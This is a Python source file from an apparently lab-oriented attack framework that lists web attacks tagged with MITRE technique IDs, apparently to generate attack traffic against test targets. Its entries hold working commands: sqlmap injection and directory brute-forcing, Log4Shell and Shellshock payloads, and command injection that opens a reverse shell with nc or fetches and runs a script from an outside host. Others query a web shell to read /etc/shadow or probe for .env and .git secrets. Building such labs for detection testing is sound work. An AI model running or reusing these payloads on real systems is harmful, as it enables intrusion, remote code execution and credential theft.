"""Searching web servers for holes, and using them: T1595.002, T1595.003, T1190."""
from labkit.attack import Attack

_LISTS = "/usr/share/wfuzz/wordlist"


def _wfuzz(name, technique, words, url):
    return Attack(name, technique, f"wfuzz -t 5 -z file,{_LISTS}/{words} 'http://{{target}}{url}'")


def _curl(name, *arguments):
    # Slowly and seldom, as somebody who knows what he wants.
    return Attack(name, "T1190", "; sleep 2; ".join(f"curl --silent --output /dev/null {argument}" for argument in arguments))


ENTRIES = [
    Attack("sqlmap-get", "T1190", "sqlmap --batch --flush-session -u 'http://{target}/search?q=1' --output-dir={folder}/sqlmap"),
    Attack("sqlmap-random-agent", "T1190", "sqlmap --batch --flush-session --random-agent --tamper=space2comment "
           "-u 'http://{target}/search?q=1' --output-dir={folder}/sqlmap"),
    Attack("sqlmap-post", "T1190", "sqlmap --batch --flush-session --random-agent -u 'http://{target}/search' --data 'q=1&page=2' "
           "--output-dir={folder}/sqlmap"),
    Attack("sqlmap-https", "T1190", "sqlmap --batch --flush-session -u 'https://{target}/search?q=1' --output-dir={folder}/sqlmap"),
    Attack("wapiti", "T1595.002", "wapiti -u http://{target}/ --flush-session --max-scan-time 25 -v 0 -o {folder}/wapiti"),
    Attack("whatweb", "T1595.002", "whatweb -a 3 http://{target}/"),
    Attack("nmap-http-enum", "T1595.003", "nmap -n -Pn -p 80 --script http-enum {target}"),
    Attack("nmap-http-vulnerabilities", "T1595.002", "nmap -n -Pn -p 80 --script 'http-vuln-*' {target}"),
    Attack("nmap-shellshock", "T1190", "nmap -n -Pn -p 80 --script http-shellshock --script-args uri=/cgi-bin/status {target}"),
    Attack("sslscan", "T1595.002", "sslscan {target}"),
    Attack("dirb", "T1595.003", "dirb http://{target}/ /usr/share/dirb/wordlists/small.txt -S -r"),
    Attack("gobuster-dir", "T1595.003", "gobuster dir -q -t 4 -u http://{target}/ -w /usr/share/dirb/wordlists/common.txt"),
    Attack("gobuster-dir-https", "T1595.003", "gobuster dir -q -k -t 4 -u https://{target}/ -w /usr/share/dirb/wordlists/common.txt"),
    Attack("ffuf-slow", "T1595.003", "ffuf -s -t 1 -p 1.5 -u http://{target}/FUZZ -w /usr/share/dirb/wordlists/small.txt", seconds=40),
    _wfuzz("wfuzz-sql", "T1190", "Injections/SQL.txt", "/search?q=FUZZ"),
    _wfuzz("wfuzz-xss", "T1190", "Injections/XSS.txt", "/search?q=FUZZ"),
    _wfuzz("wfuzz-traversal", "T1190", "Injections/Traversal.txt", "/search?file=FUZZ"),
    _wfuzz("wfuzz-cgi", "T1595.003", "vulns/cgis.txt", "/FUZZ"),
    _curl("curl-log4shell", "-H 'User-Agent: ${{jndi:ldap://{outside}/a}}' http://{target}/", "'http://{target}/?x=$%7Bjndi:ldap://{outside}/a%7D'"),
    _curl("curl-shellshock", "-A '() {{ :; }}; /bin/ping -c 1 {outside}' http://{target}/cgi-bin/status"),
    _curl("curl-command-injection", "'http://{target}/search?q=1;id'", "'http://{target}/search?q=%7C%20nc%20{outside}%204444%20-e%20/bin/sh'"),
    _curl("curl-command-injection-post", "--data 'host=127.0.0.1;wget+http://{outside}/a.sh+-O-|sh' http://{target}/search"),
    _curl("curl-webshell", "'http://{target}/uploads/shell.php?cmd=whoami'", "'http://{target}/uploads/shell.php?cmd=cat+/etc/shadow'"),
    _curl("curl-secrets", "http://{target}/.env", "http://{target}/.git/config", "http://{target}/wp-config.php.bak"),
    Attack("outside-gobuster-dir", "T1595.003", "gobuster dir -q -t 4 -u http://{shop}/ -w /usr/share/dirb/wordlists/common.txt",
           attacker="outside", victims=("shop",)),
    Attack("outside-sqlmap", "T1190", "sqlmap --batch --flush-session --random-agent -u 'http://{shop}/search?q=1' "
           "--output-dir={folder}/sqlmap", attacker="outside", victims=("shop",)),
]
